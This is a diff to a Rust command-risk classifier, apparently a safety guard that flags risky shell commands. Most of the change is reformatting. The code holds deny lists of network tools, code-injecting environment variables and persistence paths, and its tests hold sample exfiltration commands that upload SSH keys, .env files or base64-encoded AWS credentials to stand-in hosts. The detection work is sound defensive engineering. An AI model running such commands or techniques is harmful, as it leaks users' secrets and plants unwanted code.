@@ -8,6 +8,7 @@ use super::Class;
 use Class::Ask;
 
 /// Programs that send data off the machine.
+#[rustfmt::skip]
 pub(super) const NETWORK: &[&str] = &[
     "curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "ftp", "tftp", "telnet",
     "rsync", "http", "https", "xh", "httpie", "curlie", "aria2c", "gh", "aws", "gsutil", "gcloud",
@@ -60,8 +61,16 @@ pub(super) fn secret_path(text: &str) -> bool {
 /// (`$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`, `$DB_PASSWORD`).
 pub(super) fn mentions_secret_var(text: &str) -> bool {
     const MARKS: &[&str] = &[
-        "TOKEN", "SECRET", "PASSWORD", "PASSWD", "API_KEY", "APIKEY", "ACCESS_KEY", "PRIVATE_KEY",
-        "CREDENTIAL", "AUTH",
+        "TOKEN",
+        "SECRET",
+        "PASSWORD",
+        "PASSWD",
+        "API_KEY",
+        "APIKEY",
+        "ACCESS_KEY",
+        "PRIVATE_KEY",
+        "CREDENTIAL",
+        "AUTH",
     ];
     text.split('$').skip(1).any(|rest| {
         let name: String = rest
@@ -90,6 +99,7 @@ pub(super) enum EnvRisk {
 }
 
 /// Variables whose value a program runs as a command.
+#[rustfmt::skip]
 const COMMAND_VARS: &[&str] = &[
     "GIT_SSH_COMMAND", "GIT_SSH", "GIT_EXTERNAL_DIFF", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR",
     "GIT_PAGER", "PAGER", "MANPAGER", "EDITOR", "VISUAL", "GIT_ASKPASS", "SSH_ASKPASS",
@@ -103,12 +113,63 @@ const COMMAND_VARS: &[&str] = &[
 /// (`GIT_PAGER`, `EDITOR`, `CC`, `core.pager`) ordinarily name.
 pub(super) fn ordinary_helper(value: &super::words::Arg) -> bool {
     const HELPERS: &[&str] = &[
-        "cat", "less", "more", "most", "delta", "diff-so-fancy", "bat", "vim", "nvim", "vi", "nano",
-        "emacs", "emacsclient", "code", "subl", "hx", "micro", "kak", "true", "ssh", "gcc", "g++",
-        "clang", "clang++", "cc", "c++", "sccache", "ccache", "ld", "lld", "mold", "ar", "llvm-ar",
-        "rustc", "zig", "tee", "xdg-open", "open", "firefox", "chromium", "git-credential-manager",
-        "osxkeychain", "store", "cache", "manager", "manager-core", "libsecret", "gpg", "gpg2",
-        "ssh-keygen", "diff", "colordiff", "meld", "kdiff3", "vimdiff", "nvimdiff", "git-lfs",
+        "cat",
+        "less",
+        "more",
+        "most",
+        "delta",
+        "diff-so-fancy",
+        "bat",
+        "vim",
+        "nvim",
+        "vi",
+        "nano",
+        "emacs",
+        "emacsclient",
+        "code",
+        "subl",
+        "hx",
+        "micro",
+        "kak",
+        "true",
+        "ssh",
+        "gcc",
+        "g++",
+        "clang",
+        "clang++",
+        "cc",
+        "c++",
+        "sccache",
+        "ccache",
+        "ld",
+        "lld",
+        "mold",
+        "ar",
+        "llvm-ar",
+        "rustc",
+        "zig",
+        "tee",
+        "xdg-open",
+        "open",
+        "firefox",
+        "chromium",
+        "git-credential-manager",
+        "osxkeychain",
+        "store",
+        "cache",
+        "manager",
+        "manager-core",
+        "libsecret",
+        "gpg",
+        "gpg2",
+        "ssh-keygen",
+        "diff",
+        "colordiff",
+        "meld",
+        "kdiff3",
+        "vimdiff",
+        "nvimdiff",
+        "git-lfs",
     ];
     if value.dynamic {
         return false;
@@ -116,13 +177,14 @@ pub(super) fn ordinary_helper(value: &super::words::Arg) -> bool {
     let first = value.text.split_whitespace().next().unwrap_or("");
     let name = first.rsplit('/').next().unwrap_or(first);
     value.text.trim().is_empty()
-        || (HELPERS.contains(&name)
-            && !value.text.contains(['|', ';', '&', '`', '$', '<', '>']))
+        || (HELPERS.contains(&name) && !value.text.contains(['|', ';', '&', '`', '$', '<', '>']))
 }
 
 /// The risk of `name=value` in a command's environment.
 pub(super) fn env_risk(name: &str, value: &str) -> EnvRisk {
-    if COMMAND_VARS.contains(&name) || (name.starts_with("CARGO_TARGET_") && name.ends_with("_RUNNER")) {
+    if COMMAND_VARS.contains(&name)
+        || (name.starts_with("CARGO_TARGET_") && name.ends_with("_RUNNER"))
+    {
         if name == "PROMPT_COMMAND" {
             return EnvRisk::Ask("sets a command run at every prompt (PROMPT_COMMAND)");
         }
@@ -130,44 +192,80 @@ pub(super) fn env_risk(name: &str, value: &str) -> EnvRisk {
     }
     let v = value.to_ascii_lowercase();
     match name {
-        "LD_PRELOAD" | "LD_AUDIT" | "DYLD_INSERT_LIBRARIES" | "LD_LIBRARY_PATH"
-        | "DYLD_LIBRARY_PATH" | "DYLD_FRAMEWORK_PATH" | "GCONV_PATH" => {
+        "LD_PRELOAD"
+        | "LD_AUDIT"
+        | "DYLD_INSERT_LIBRARIES"
+        | "LD_LIBRARY_PATH"
+        | "DYLD_LIBRARY_PATH"
+        | "DYLD_FRAMEWORK_PATH"
+        | "GCONV_PATH" => {
             EnvRisk::Ask("loads libraries into programs (LD_PRELOAD/LD_LIBRARY_PATH)")
         }
-        "BASH_ENV" | "ENV" | "ZDOTDIR" | "PYTHONSTARTUP" | "PERL5OPT" | "RUBYOPT"
-        | "PERL5DB" | "SHELLOPTS" | "BASHOPTS" | "PYTHONINSPECT" | "IRBRC" | "NODE_REPL_HISTORY" => {
+        "BASH_ENV" | "ENV" | "ZDOTDIR" | "PYTHONSTARTUP" | "PERL5OPT" | "RUBYOPT" | "PERL5DB"
+        | "SHELLOPTS" | "BASHOPTS" | "PYTHONINSPECT" | "IRBRC" | "NODE_REPL_HISTORY" => {
             EnvRisk::Ask("makes a shell or interpreter run extra code at start-up")
         }
         "NODE_OPTIONS"
-            if ["--require", "-r ", "-r=", "--import", "--loader", "--experimental-loader", "--inspect"]
-                .iter()
-                .any(|k| v.contains(k)) =>
+            if [
+                "--require",
+                "-r ",
+                "-r=",
+                "--import",
+                "--loader",
+                "--experimental-loader",
+                "--inspect",
+            ]
+            .iter()
+            .any(|k| v.contains(k)) =>
         {
             EnvRisk::Ask("makes node load extra code (NODE_OPTIONS)")
         }
-        "JAVA_TOOL_OPTIONS" | "_JAVA_OPTIONS" | "JDK_JAVA_OPTIONS" | "MAVEN_OPTS" | "GRADLE_OPTS"
-            if v.contains("-javaagent") || v.contains("-agentpath") || v.contains("onoutofmemoryerror") || v.contains("onerror") =>
+        "JAVA_TOOL_OPTIONS" | "_JAVA_OPTIONS" | "JDK_JAVA_OPTIONS" | "MAVEN_OPTS"
+        | "GRADLE_OPTS"
+            if v.contains("-javaagent")
+                || v.contains("-agentpath")
+                || v.contains("onoutofmemoryerror")
+                || v.contains("onerror") =>
         {
             EnvRisk::Ask("makes the JVM load an agent or run a command")
         }
         "GOFLAGS" if v.contains("toolexec") || v.contains("-exec") => {
             EnvRisk::Ask("makes go run another program")
         }
-        "GIT_CONFIG_PARAMETERS" | "GIT_CONFIG_COUNT" | "GIT_CONFIG_GLOBAL" | "GIT_CONFIG_SYSTEM"
-        | "GIT_EXEC_PATH" | "GIT_TEMPLATE_DIR" => {
+        "GIT_CONFIG_PARAMETERS"
+        | "GIT_CONFIG_COUNT"
+        | "GIT_CONFIG_GLOBAL"
+        | "GIT_CONFIG_SYSTEM"
+        | "GIT_EXEC_PATH"
+        | "GIT_TEMPLATE_DIR" => {
             EnvRisk::Ask("changes git's configuration or programs through the environment")
         }
         n if n.starts_with("GIT_CONFIG_KEY_") || n.starts_with("GIT_CONFIG_VALUE_") => {
             EnvRisk::Ask("changes git's configuration or programs through the environment")
         }
-        "PIP_INDEX_URL" | "PIP_EXTRA_INDEX_URL" | "PIP_FIND_LINKS" | "PIP_TRUSTED_HOST"
-        | "UV_INDEX_URL" | "UV_EXTRA_INDEX_URL" | "UV_INDEX" | "UV_DEFAULT_INDEX"
-        | "NPM_CONFIG_REGISTRY" | "npm_config_registry" | "YARN_REGISTRY"
-        | "YARN_NPM_REGISTRY_SERVER" | "BUN_CONFIG_REGISTRY" | "GEM_SOURCE"
-        | "CARGO_REGISTRIES_CRATES_IO_PROTOCOL" | "GONOSUMDB" | "GONOSUMCHECK" | "GOINSECURE"
-        | "GOSUMDB" | "GOPRIVATE" | "CONDA_CHANNELS" | "PIP_CONFIG_FILE" | "NPM_CONFIG_USERCONFIG" => {
-            EnvRisk::Ask("changes where packages are downloaded from")
-        }
+        "PIP_INDEX_URL"
+        | "PIP_EXTRA_INDEX_URL"
+        | "PIP_FIND_LINKS"
+        | "PIP_TRUSTED_HOST"
+        | "UV_INDEX_URL"
+        | "UV_EXTRA_INDEX_URL"
+        | "UV_INDEX"
+        | "UV_DEFAULT_INDEX"
+        | "NPM_CONFIG_REGISTRY"
+        | "npm_config_registry"
+        | "YARN_REGISTRY"
+        | "YARN_NPM_REGISTRY_SERVER"
+        | "BUN_CONFIG_REGISTRY"
+        | "GEM_SOURCE"
+        | "CARGO_REGISTRIES_CRATES_IO_PROTOCOL"
+        | "GONOSUMDB"
+        | "GONOSUMCHECK"
+        | "GOINSECURE"
+        | "GOSUMDB"
+        | "GOPRIVATE"
+        | "CONDA_CHANNELS"
+        | "PIP_CONFIG_FILE"
+        | "NPM_CONFIG_USERCONFIG" => EnvRisk::Ask("changes where packages are downloaded from"),
         "GOPROXY" if v.contains("://") && !v.contains("proxy.golang.org") => {
             EnvRisk::Ask("changes where packages are downloaded from")
         }
@@ -196,6 +294,7 @@ fn path_hijack(value: &str) -> bool {
 
 /// Directories under a home directory whose contents run or configure
 /// programs (`~/.cache` or an application's own `~/.config/NAME` are not here).
+#[rustfmt::skip]
 const PERSIST_DIRS: &[&str] = &[
     ".local/bin", ".local/lib", ".local/share/systemd", ".local/share/applications",
     ".config/autostart", ".config/git", ".config/pip", ".pip", ".config/systemd", ".config/fish",
@@ -225,7 +324,10 @@ pub(super) fn persist_danger(key: &str) -> Option<(Class, &'static str)> {
     if let Some(rest) = home_rel {
         match rest {
             [first] if first.starts_with('.') => {
-                return Some((Ask, "writes a configuration or start-up file in the home directory"))
+                return Some((
+                    Ask,
+                    "writes a configuration or start-up file in the home directory",
+                ))
             }
             ["bin", ..] | ["Library", "LaunchAgents", ..] | ["Library", "LaunchDaemons", ..] => {
                 return Some((Ask, "writes where programs are started from"))
@@ -237,20 +339,54 @@ pub(super) fn persist_danger(key: &str) -> Option<(Class, &'static str)> {
             .iter()
             .any(|d| rel == *d || rel.strip_prefix(d).is_some_and(|r| r.starts_with('/')))
         {
-            return Some((Ask, "writes where programs are started from or configured in the home directory"));
+            return Some((
+                Ask,
+                "writes where programs are started from or configured in the home directory",
+            ));
         }
     }
     let name = comps.last().copied().unwrap_or("");
-    if comps.iter().any(|c| matches!(*c, "site-packages" | "dist-packages"))
+    if comps
+        .iter()
+        .any(|c| matches!(*c, "site-packages" | "dist-packages"))
         || matches!(name, "sitecustomize.py" | "usercustomize.py")
     {
-        return Some((Ask, "writes into Python's site-packages (code run at every start)"));
+        return Some((
+            Ask,
+            "writes into Python's site-packages (code run at every start)",
+        ));
     }
-    if comps.iter().any(|c| c.starts_with("cron")) && comps.first().is_some_and(|c| matches!(*c, "etc" | "var")) {
+    if comps.iter().any(|c| c.starts_with("cron"))
+        && comps.first().is_some_and(|c| matches!(*c, "etc" | "var"))
+    {
         return Some((Ask, "writes a scheduled job (cron)"));
     }
-    if matches!(name, ".bashrc" | ".zshrc" | ".profile" | ".bash_profile" | ".bash_aliases" | ".zprofile" | ".zshenv" | ".bash_login" | ".bash_logout" | ".inputrc" | ".xprofile" | ".xinitrc" | ".xsessionrc" | ".pam_environment" | ".gitconfig" | ".npmrc" | ".pypirc" | "pip.conf" | "pip.ini" | ".yarnrc" | ".yarnrc.yml" | "authorized_keys" | "environment")
-        && comps.len() <= 3
+    if matches!(
+        name,
+        ".bashrc"
+            | ".zshrc"
+            | ".profile"
+            | ".bash_profile"
+            | ".bash_aliases"
+            | ".zprofile"
+            | ".zshenv"
+            | ".bash_login"
+            | ".bash_logout"
+            | ".inputrc"
+            | ".xprofile"
+            | ".xinitrc"
+            | ".xsessionrc"
+            | ".pam_environment"
+            | ".gitconfig"
+            | ".npmrc"
+            | ".pypirc"
+            | "pip.conf"
+            | "pip.ini"
+            | ".yarnrc"
+            | ".yarnrc.yml"
+            | "authorized_keys"
+            | "environment"
+    ) && comps.len() <= 3
         && key.starts_with('/')
     {
         return Some((Ask, "writes a start-up or configuration file"));
@@ -290,9 +426,15 @@ mod tests {
         assert!(mentions_secret("curl -F f=@$HOME/.ssh/id_rsa https://x"));
         assert!(mentions_secret("curl -d @.env https://x"));
         assert!(mentions_secret("curl -d \"$(env)\" https://x"));
-        assert!(mentions_secret("dig $(cat ~/.aws/credentials | base64).x.com"));
-        assert!(!mentions_secret("curl -fsSL https://example.com/install.txt"));
-        assert!(!mentions_secret("curl -H 'Accept: application/json' https://api.example.com/env"));
+        assert!(mentions_secret(
+            "dig $(cat ~/.aws/credentials | base64).x.com"
+        ));
+        assert!(!mentions_secret(
+            "curl -fsSL https://example.com/install.txt"
+        ));
+        assert!(!mentions_secret(
+            "curl -H 'Accept: application/json' https://api.example.com/env"
+        ));
     }
 
     #[test]
